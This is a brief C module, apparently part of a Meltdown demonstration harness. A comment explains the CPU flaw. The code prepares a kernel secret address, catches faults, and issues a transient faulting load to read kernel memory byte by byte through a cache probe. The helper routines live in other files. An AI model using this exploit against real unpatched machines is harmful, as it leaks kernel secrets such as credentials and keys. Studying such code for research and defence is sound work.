/*
 * Meltdown: a load from a supervisor-only page faults, but gives its data to the instructions behind it.
 *
 * The kernel's page is in the program's own page tables (unless KPTI took it out), and the line is in the L1 cache,
 * because the kernel has just used it. The fault comes only when the load is the oldest instruction.
 */
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static u64 secret;

static int prepare(u64 bytes)
{
    (void)bytes;
    secret = secret_address();
    catch_faults();
    return secret != 0;
}

static void attempt(u64 index)
{
    flush_probe();
    kernel_uses_secret();
    FAULTING_ACCESS(LOAD_BYTE, secret + index, 0L);
}

static void done(void)
{
    say_value("faults", faults);
}
